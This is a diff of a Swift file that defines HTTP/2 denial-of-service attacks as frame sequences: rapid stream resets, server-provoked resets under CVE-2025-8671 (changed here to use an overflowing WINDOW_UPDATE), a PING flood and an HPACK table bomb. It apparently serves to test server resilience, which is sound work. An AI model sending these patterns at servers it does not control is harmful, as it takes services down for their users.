@@ -27,7 +27,7 @@ struct Attack {
     struct Block {
         var bytes: [UInt8] = []
         var units = 0
-        /// Where ids stand, and the how manieth stream of the block each is.
+        /// Where an id stands, and which stream of the block it is, from 0 on.
         var streams: [(offset: Int, index: UInt32)] = []
         var streamCount: UInt32 = 0
 
@@ -96,6 +96,8 @@ struct Attack {
         let openStream = HTTP2.frame(
             .headers, flags: HTTP2.Flag.endHeaders, stream: 1,
             [HPACK.post, HPACK.schemeHTTP] + HPACK.field(.authority, authority, .none) + HPACK.field(.path, "/callback", .none))
+        // More than a window may hold: an error of the stream alone (RFC 9113 §6.9.1).
+        let overflow = HTTP2.frame(.windowUpdate, HTTP2.number(UInt32(HTTP2.windowBytesMax)))
         // One field of 4,000 bytes in the dynamic table, and then again and again by one byte each.
         let bomb = [HPACK.get, HPACK.schemeHTTP] + HPACK.field("x", String(repeating: "a", count: 4_000), .added)
             + (0..<4_000).flatMap { _ in HPACK.indexed(0) }
@@ -108,7 +110,7 @@ struct Attack {
                 block: Block(count: 32, frames: [get, HTTP2.frame(.resetStream, HTTP2.number(HTTP2.cancel))])),
             Attack(
                 name: "resets that the server is made to send (CVE-2025-8671)", unit: "resets", connections: 8,
-                opening: hello, block: Block(count: 32, frames: [get, HTTP2.frame(.windowUpdate, HTTP2.number(0))])),
+                opening: hello, block: Block(count: 32, frames: [get, overflow])),
             Attack(
                 name: "PING flood", unit: "frames", connections: 8, opening: hello,
                 block: Block(HTTP2.frame(.ping, [UInt8](repeating: 0, count: 8)), count: 100)),
